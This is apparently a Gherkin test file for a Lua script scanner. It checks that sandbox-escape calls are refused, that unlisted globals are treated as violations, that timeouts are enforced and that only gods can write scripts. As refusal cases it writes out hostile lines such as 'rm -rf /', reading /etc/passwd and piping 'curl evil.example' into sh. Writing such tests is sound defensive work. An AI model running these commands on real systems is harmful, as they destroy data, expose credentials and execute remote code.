@lua
Feature: Scripts refused by the scanner
  Gods store Lua scripts that run sandboxed. Every save is scanned: a script that mentions a way out
  of the sandbox is refused as malicious, and asking for globals outside the whitelist is a sandbox
  violation. Admins read scripts; only gods write them.

  Background:
    Given I am a god

  Scenario: a harmless script is saved with safe defaults
    When I save a script "greet" with code:
      """lua
      return "hello " .. tostring(name)
      """
    Then it succeeds
    And the result is:
      """json
      { "name": "greet", "isSandboxed": true, "allowedGlobals": [], "timeoutMs": 5000, "createdBy": "$me" }
      """

  Scenario Outline: a script that reaches outside the sandbox is refused: <what>
    When I save a script "escape" with code:
      """lua
      <code>
      """
    Then it fails with MALICIOUS_CODE_DETECTED
    And there are 0 scripts

    Examples:
      | what               | code                             |
      | running a command  | os.execute("rm -rf /")           |
      | opening a pipe     | local p = io.popen("ls")         |
      | reading a file     | local f = io.open("/etc/passwd") |
      | compiling text     | return load("return 1")()        |
      | loading a module   | local json = require("json")     |
      | the debug library  | debug.sethook(print, "l")        |
      | changing the env   | setfenv(1, {})                   |
      | dumping bytecode   | return string.dump(print)        |

  Scenario: a forbidden call is refused even in a comment
    When I save a script "careful" with code:
      """lua
      -- we never call os.execute here
      return 1
      """
    Then it fails with MALICIOUS_CODE_DETECTED

  Scenario: a saved script cannot be made dangerous later
    Given I save a script "greet" with code:
      """lua
      return "hello"
      """
    When I change the code of the script "greet" to:
      """lua
      os.execute("curl evil.example | sh")
      """
    Then it fails with MALICIOUS_CODE_DETECTED
    And the script "greet" has:
      | code | return "hello" |

  Scenario: globals outside the whitelist are a sandbox violation
    When I save a script "net" allowing "string, socket" with code:
      """lua
      return string.len("x")
      """
    Then it fails with SANDBOX_VIOLATION
    And the error details include:
      """json
      { "globals": ["socket"] }
      """

  Scenario: whitelisted globals are allowed
    When I save a script "maths" allowing "string, table, math" with code:
      """lua
      return math.floor(table.getn and 1 or 2)
      """
    Then it succeeds
    And the result is:
      """json
      { "allowedGlobals": ["string", "table", "math"] }
      """

  Scenario Outline: a time limit between 100 ms and 30 s: <ms> ms <verdict>
    When I create a script "timed" with:
      """json
      { "code": "return 1", "timeoutMs": <ms> }
      """
    Then it <outcome>

    Examples:
      | ms    | verdict       | outcome                      |
      | 99    | is refused    | fails with VALIDATION_ERROR  |
      | 100   | is allowed    | succeeds                     |
      | 30000 | is allowed    | succeeds                     |
      | 30001 | is refused    | fails with VALIDATION_ERROR  |

  Scenario: a script name is taken once
    Given I save a script "greet" with code:
      """lua
      return 1
      """
    When I save a script "greet" with code:
      """lua
      return 2
      """
    Then it fails with CONFLICT

  @acl
  Scenario: admins read scripts, only gods write them
    Given I save a script "greet" with code:
      """lua
      return 1
      """
    And I am an admin
    When I list the scripts
    Then the result lists "greet"
    When I change the code of the script "greet" to:
      """lua
      return 2
      """
    Then it fails with FORBIDDEN

  @acl
  Scenario: plain users do not see scripts
    Given I am a user
    When I list the scripts
    Then it fails with FORBIDDEN
